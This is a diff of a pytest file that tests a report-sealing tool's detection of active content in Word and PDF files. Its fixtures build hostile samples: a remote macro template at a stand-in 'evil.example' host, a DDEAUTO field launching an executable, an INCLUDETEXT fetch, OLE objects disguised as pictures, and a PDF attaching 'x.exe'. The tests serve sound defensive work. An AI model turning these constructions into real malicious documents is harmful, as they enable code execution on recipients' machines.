@@ -1,12 +1,14 @@
-"""Review (hostile, after the merge of issues 20-26): the seal against a pull request's own
-files and against the rules merged beside it.
+"""The seal against a pull request's own files, and against the rules that judge reports
+across quarters.
 
 A pull request can seal a report issued before the seal existed (the shipped seed) or a
 new issued report with a manifest of its own: Git is no witness for a manifest that is not
 in ``HEAD`` yet, so ``issued-file-active`` is what stops an Office file that acts when
 opened from being published as the official Word file. Here the manifest is written by
 :func:`baocao.seal.manifest.make` over the seed's files, as such a pull request would,
-with a Word file of its own (no Chromium print needed).
+with a Word file of its own (no Chromium print needed). The Word file is judged by
+:mod:`baocao.seal.wordfile`: its package parsed, against an allowlist of what python-docx
+writes.
 """
 
 from __future__ import annotations
@@ -95,10 +97,8 @@ VARIANTS = {
 
 @pytest.mark.parametrize("variant", sorted(VARIANTS))
 def test_a_kept_word_file_with_an_outside_template_is_refused(tmp_path, variant):
-    """check/seal._active_docx reads relationships with a byte regex: ``<Relationship `` then
-    ``TargetMode="External"`` in double quotes, and any ``/hyperlink`` in the tag excuses
-    it. Single quotes, a newline after the element's name, or ``/hyperlink`` in the target
-    URL slip an outside (macro) template past ``issued-file-active``."""
+    """An outside (macro) template, however the XML of the relationship is written (quotes,
+    line breaks, ``/hyperlink`` in the URL): relationships are parsed, not searched."""
     root = copy_repo(tmp_path / "repo")
     seal(root, rewritten(office_docx(root), VARIANTS[variant]))
     done = run_cli(root, "check")
@@ -106,8 +106,8 @@ def test_a_kept_word_file_with_an_outside_template_is_refused(tmp_path, variant)
 
 
 def test_a_relationships_part_padded_past_4_mib_is_still_read(tmp_path):
-    """Relationship parts of 4 MiB or more (uncompressed) are skipped: spaces compress to
-    nothing, so a 30 kB Word file hides its outside template that way."""
+    """A relationships part padded to 4 MiB (spaces compress to nothing: a 30 kB Word file) is
+    refused as too large, never skipped."""
     root = copy_repo(tmp_path / "repo")
     relationship = (f'<Relationship Id="rIdX" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" '
                     'TargetMode="External"/>')
@@ -119,14 +119,204 @@ def test_a_relationships_part_padded_past_4_mib_is_still_read(tmp_path):
 
 
 def test_an_embedded_object_under_another_name_is_refused(tmp_path):
-    """Embedded objects are found by part name (``embeddings/``, ``oleObject``), but a part's
-    name is free: an OLE object at ``word/media/image9.bin``, related as ``oleObject``."""
+    """A part's name is free: an OLE object at ``word/media/image9.bin``, related as
+    ``oleObject``, is refused by its relationship's type and its content type."""
     root = copy_repo(tmp_path / "repo")
     relationship = f'<Relationship Id="rIdO" Type="{OLE}" Target="media/image9.bin"/>'
     docx = rewritten(office_docx(root), relationship, {"word/media/image9.bin": b"\xd0\xcf\x11\xe0" + bytes(508)})
     seal(root, docx)
     done = run_cli(root, "check")
     assert "[issued-file-active]" in done.stdout, done.stdout
+
+
+# --- the Word file's package, judged by wordfile.active_content -----------------------------------
+
+CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE compound file's header
+DOCUMENT = "word/document.xml"
+MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+
+
+@pytest.fixture(scope="module")
+def made_docx(tmp_path_factory) -> bytes:
+    return office_docx(copy_repo(tmp_path_factory.mktemp("docx") / "repo"))
+
+
+def with_parts(docx: bytes, changes: dict[str, bytes | None] | None = None, edit=None) -> bytes:
+    """``docx`` with parts replaced, added or (None) removed, and ``edit(name, data)`` applied."""
+    changes = dict(changes or {})
+    source = zipfile.ZipFile(io.BytesIO(docx))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = changes.pop(item.filename, source.read(item.filename))
+            if data is not None:
+                target.writestr(item.filename, edit(item.filename, data) if edit else data)
+        for name, data in changes.items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+def _field_in_runs(*parts: str) -> bytes:
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in parts)
+    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+            '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>').encode()
+
+
+def _in_body(fragment: bytes):
+    """Runs put at the end of the document's first paragraph."""
+    return _replace_in(DOCUMENT, b"</w:p>", fragment + b"</w:p>")
+
+
+def _replace_in(part: str, old: bytes, new: bytes):
+    def edit(name: str, data: bytes) -> bytes:
+        if name != part:
+            return data
+        assert old in data, (part, old)
+        return data.replace(old, new, 1)
+    return edit
+
+
+PACKAGES = {
+    # the main document declared macro-enabled: Word runs its vbaProject
+    "macro-enabled-main": lambda d: with_parts(d, edit=_replace_in("[Content_Types].xml", PLAIN_MAIN.encode(),
+                                                                    MACRO_MAIN.encode())),
+    # a vbaProject related by its type, its part named like a picture
+    "vba-project": lambda d: rewritten(d, '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
+                                          'relationships/vbaProject" Target="media/image1.png"/>',
+                                       {"word/media/image1.png": CFB}),
+    # an OLE compound file declared a PNG picture, related as nothing
+    "ole-as-picture": lambda d: with_parts(
+        d, {"word/media/image2.png": CFB},
+        edit=_replace_in("[Content_Types].xml", b"<Default Extension=\"xml\"",
+                         b'<Default Extension="png" ContentType="image/png"/><Default Extension="xml"')),
+    # an OLE compound file as a custom XML part
+    "ole-as-custom-xml": lambda d: with_parts(d, {"customXml/item9.xml": CFB}),
+    # a whole package inside the package
+    "zip-in-zip": lambda d: with_parts(d, {"customXml/item8.xml": d}),
+    # a DDE field that runs a program, its code split over runs
+    "dde-field": lambda d: with_parts(d, edit=_in_body(_field_in_runs("DDE", "AUTO c:\\\\windows\\\\x.exe"))),
+    # a field that fetches a text from outside
+    "includetext-field": lambda d: with_parts(d, edit=_in_body(
+        b'<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x.docx&quot; "><w:r><w:t>x</w:t></w:r>'
+        b"</w:fldSimple>")),
+    # an outside picture, linked, not embedded
+    "external-image": lambda d: rewritten(d, '<Relationship Id="rIdI" Type="http://schemas.openxmlformats.org/'
+                                             'officeDocument/2006/relationships/image" Target="http://evil.example/'
+                                             'p.png" TargetMode="External"/>'),
+    # a relationship to a part the file does not have
+    "dangling-target": lambda d: rewritten(d, '<Relationship Id="rIdD" Type="http://schemas.openxmlformats.org/'
+                                              'officeDocument/2006/relationships/footer" Target="../../footer9.xml"/>'),
+    # a DTD: entities are how XML parsers are attacked
+    "dtd": lambda d: with_parts(d, edit=_replace_in("word/_rels/document.xml.rels", b"<Relationships ",
+                                                    b'<!DOCTYPE r [<!ENTITY a "b">]><Relationships ')),
+    # two parts Word reads as one (OPC names ignore case)
+    "same-name": lambda d: with_parts(d, {"Word/Document.xml": b"<x/>"}),
+    # a settings part with relationships of its own: the outside template's usual place
+    "settings-template": lambda d: with_parts(d, {"word/_rels/settings.xml.rels": (
+        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"<Relationship Id='rId1' Type='{TEMPLATE}' Target='file:///c:/t.dotm' TargetMode='External'/>"
+        "</Relationships>").encode()}),
+    # a picture that is not one
+    "not-a-picture": lambda d: with_parts(
+        d, {"word/media/image3.png": b"<svg/>"},
+        edit=_replace_in("[Content_Types].xml", b"<Default Extension=\"xml\"",
+                         b'<Default Extension="png" ContentType="image/png"/><Default Extension="xml"')),
+}
+
+
+def test_the_word_file_baocao_makes_and_python_docx_templates_pass(made_docx):
+    import docx
+
+    from baocao.seal.wordfile import active_content
+
+    assert active_content(made_docx) == []
+    plain = docx.Document()  # the template's parts: numbering, custom XML, thumbnail...
+    plain.sections[0].footer.paragraphs[0].text = "chân trang"
+    out = io.BytesIO()
+    plain.save(out)
+    assert active_content(out.getvalue()) == []
+
+
+#: What the check says of each (one phrase among those it gives).
+SAID = {"macro-enabled-main": "kiểu nội dung `application/vnd.ms-word.document.macroEnabled.main+xml`",
+        "vba-project": "quan hệ `vbaProject` ở word/_rels/document.xml.rels",
+        "ole-as-picture": "đối tượng OLE (macro, đối tượng nhúng hoặc ActiveX) ở word/media/image2.png",
+        "ole-as-custom-xml": "đối tượng OLE (macro, đối tượng nhúng hoặc ActiveX) ở customXml/item9.xml",
+        "zip-in-zip": "tệp nén nhúng ở customXml/item8.xml",
+        "dde-field": "trường `DDEAUTO` ở word/document.xml",
+        "includetext-field": "trường `INCLUDETEXT` ở word/document.xml",
+        "external-image": "liên kết ra ngoài `http://evil.example/p.png` ở word/_rels/document.xml.rels",
+        "dangling-target": "quan hệ tới `../../footer9.xml` không có trong tệp (word/_rels/document.xml.rels)",
+        "dtd": "khai báo DTD (word/_rels/document.xml.rels)",
+        "same-name": "hai phần cùng tên Word/Document.xml",
+        "settings-template": "quan hệ `attachedTemplate` ở word/_rels/settings.xml.rels",
+        "not-a-picture": "phần word/media/image3.png không phải ảnh image/png"}
+
+
+@pytest.mark.parametrize("variant", sorted(PACKAGES))
+def test_a_word_file_with_what_python_docx_never_writes_is_refused(made_docx, variant):
+    from baocao.seal.wordfile import active_content
+
+    assert SAID[variant] in active_content(PACKAGES[variant](made_docx))
+
+
+def test_a_part_too_large_is_refused_not_skipped(made_docx, monkeypatch):
+    from baocao.seal import wordfile
+
+    monkeypatch.setattr(wordfile, "MAX_PART", 1000)  # the document is 40 kB
+    assert wordfile.active_content(made_docx) == ["phần word/document.xml quá lớn (hơn 0 MiB)"]
+
+
+# --- the PDF, judged by fields.active_content: allowlists of actions, annotations, fields ----------
+
+
+def _pdf_with(annotation: dict) -> bytes:
+    from pypdf import PdfWriter
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
+
+    def pdf_value(value):
+        if isinstance(value, dict):
+            return DictionaryObject({NameObject(k): pdf_value(v) for k, v in value.items()})
+        if isinstance(value, str):
+            return NameObject(value) if value.startswith("/") else TextStringObject(value)
+        return FloatObject(value)
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(595, 842)
+    annot = pdf_value({"/Type": "/Annot", "/Rect": {}, **annotation})
+    annot[NameObject("/Rect")] = ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)])
+    page[NameObject("/Annots")] = ArrayObject([annot])
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+PDFS = {
+    # actions no blocklist named: an allowlist refuses them all the same
+    "go-to-3d-view": ({"/Subtype": "/Link", "/A": {"/S": "/GoTo3DView", "/V": "x"}}, "hành động /GoTo3DView"),
+    "transition": ({"/Subtype": "/Link", "/A": {"/S": "/GoTo", "/D": "x", "/Next": {"/S": "/Trans"}}},
+                   "hành động /Trans"),
+    "screen": ({"/Subtype": "/Screen"}, "chú thích /Screen"),
+    "file-attachment": ({"/Subtype": "/FileAttachment", "/FS": "x.exe"}, "chú thích /FileAttachment"),
+    "text-field": ({"/Subtype": "/Widget", "/FT": "/Tx", "/T": "x"}, "trường biểu mẫu /Tx"),
+}
+
+
+def test_a_pdf_with_links_and_signature_fields_passes():
+    from baocao.seal.fields import active_content
+
+    assert active_content(_pdf_with({"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": "https://example.org/"}})) == []
+    assert active_content(_pdf_with({"/Subtype": "/Link", "/A": {"/S": "/GoTo", "/D": "bao-cao"}})) == []
+    assert active_content(_pdf_with({"/Subtype": "/Widget", "/FT": "/Sig", "/T": "ChuKyNguoiKy"})) == []
+
+
+@pytest.mark.parametrize("variant", sorted(PDFS))
+def test_a_pdf_with_what_chromium_never_prints_is_refused(variant):
+    from baocao.seal.fields import active_content
+
+    annotation, said = PDFS[variant]
+    assert said in active_content(_pdf_with(annotation))
 
 
 # --- the seal and the copied-text rule ----------------------------------------------------------
